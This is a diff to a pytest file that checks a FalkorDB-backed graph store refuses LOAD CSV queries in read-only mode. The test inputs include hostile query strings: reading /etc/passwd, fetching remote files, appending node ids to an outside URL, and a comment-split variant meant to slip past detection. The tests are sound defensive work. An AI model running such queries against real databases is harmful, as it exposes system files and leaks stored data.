@@ -9,6 +9,9 @@ import sys
 import time
 from pathlib import Path
 
+import pytest
+
+from graph.store import StoreError
 from graph.store import falkordb_server as fs
 from graph.store.falkor import FalkorStore
 
@@ -130,3 +133,20 @@ def test_data_dir_resolution_order(tmp_path: Path, monkeypatch) -> None:
     monkeypatch.delenv("GMSGRAPH_DATA_DIR")
     monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "xdg"))
     assert fs.resolve_data_dir(None) == (tmp_path / "xdg" / "gmsgraph") or sys.platform == "darwin"
+
+
+@pytest.mark.parametrize("query", [
+    "LOAD CSV FROM 'file:///etc/passwd' AS row RETURN row",
+    "load csv with headers from 'https://example.invalid/x.csv' AS row RETURN count(row)",
+    "MATCH (n) WITH n LIMIT 1 LOAD CSV FROM 'https://example.invalid/' + n.id AS row RETURN row",
+    "LOAD /* split */ CSV FROM $url AS row RETURN row",
+])
+def test_read_only_refuses_load_csv(store, query: str) -> None:
+    store.run("CREATE (:Report {id: 'r1'})", read_only=False)
+    with pytest.raises(StoreError, match="LOAD CSV"):
+        store.run(query, {"url": "file:///etc/hostname"})
+
+
+def test_read_only_still_runs_queries_that_only_mention_csv(store) -> None:
+    store.run("CREATE (:Report {id: 'r1', source: 'table.csv'})", read_only=False)
+    assert store.run("MATCH (r:Report) WHERE r.source ENDS WITH '.csv' RETURN r.id").rows == (("r1",),)
